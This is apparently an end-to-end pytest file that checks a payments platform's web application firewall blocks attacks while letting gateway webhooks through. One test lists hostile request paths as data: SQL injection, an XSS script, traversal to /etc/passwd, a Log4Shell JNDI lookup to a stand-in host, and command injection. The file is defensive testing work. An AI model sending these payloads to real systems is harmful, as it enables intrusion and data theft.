"""The managed rulesets of the running platform, as attackers, customers and gateways meet them."""

from __future__ import annotations

import http.client
import json
import socket
import ssl
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import Platform
from tests.twin.waf.site import Sample, gateway_samples
from tools import twin

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(1800)]

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
HOST = "pay.payments.localhost"
PHASE = "http_request_firewall_managed"


def _send(platform: Platform, sample: Sample, host: str = HOST) -> tuple[int, bytes]:
    context = ssl.create_default_context(cafile=str(Path(platform.home.path) / "ca.pem"))
    with (
        socket.create_connection(("127.0.0.1", platform.port), 20) as plain,
        context.wrap_socket(plain, server_hostname=host) as connection,
    ):
        body = sample.body or b""
        lines = [f"{sample.method} {sample.path} HTTP/1.1", f"Host: {host}:{platform.port}"]
        lines += [f"{name}: {value}" for name, value in sample.headers.items()]
        lines += ["Connection: close"]
        lines += [f"Content-Length: {len(body)}"] if sample.body is not None else []
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
        answer = http.client.HTTPResponse(connection, method=sample.method)
        answer.begin()
        return answer.status, answer.read()


def _decisions(platform: Platform) -> list[dict[str, Any]]:
    asked = Sample(name="", method="GET", path="/api/edge/decisions", headers={})
    status, body = _send(platform, asked, "twin.localhost")
    assert status == 200, body
    found: list[dict[str, Any]] = json.loads(body)["decisions"]
    return found


def test_the_engine_was_built_and_runs_as_a_child_of_the_twin(platform: Platform) -> None:
    running = twin.find(platform.home)
    assert running is not None
    children = [
        (folder / "cmdline").read_bytes()
        for folder in Path("/proc").glob("[0-9]*")
        if _parent(folder) == running.pid
    ]
    assert any(b"payments-waf" in command for command in children), (
        f"managed rulesets are deployed and nothing inspects: {children}"
    )


def _parent(process: Path) -> int:
    try:
        return int((process / "stat").read_text().rpartition(")")[2].split()[1])
    except OSError:
        return 0


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("/login?next=%27%20OR%20%271%27=%271", "942100"),
        ("/payments?q=%3Cscript%3Ealert(1)%3C/script%3E", "941"),
        ("/payments?file=..%2f..%2f..%2fetc%2fpasswd", "930"),
        ("/payments?q=%24%7Bjndi:ldap://evil.test/a%7D", "932130"),  # as a shell expression
        ("/payments?host=127.0.0.1;cat%20/etc/passwd", "932"),
    ],
    ids=["sql", "script", "traversal", "log4j", "command"],
)
def test_attacks_are_refused_and_the_twins_page_says_by_which_rule(
    platform: Platform, path: str, rule: str
) -> None:
    attack = Sample(name="", method="GET", path=path, headers={"User-Agent": BROWSER})
    status, body = _send(platform, attack)
    assert status == 403, body[:300]
    told = [it for it in _decisions(platform) if it["phase"] == PHASE and it["action"] == "block"]
    assert any(rule in f"{it['rule']} {it['detail']}" for it in told), told


@pytest.mark.parametrize("sample", gateway_samples(), ids=lambda sample: sample.name)
def test_webhooks_reach_the_service_with_whatever_they_quote(
    platform: Platform, sample: Sample
) -> None:
    status, body = _send(platform, sample)
    assert status != 403, f"the edge kept a payment from being booked: {body[:300]!r}"
    # Nor did the service break: PayPal's own certificate, which a sample names, cannot be had here.
    assert status < 500 or b"webhook_not_verifiable" in body, body[:300]
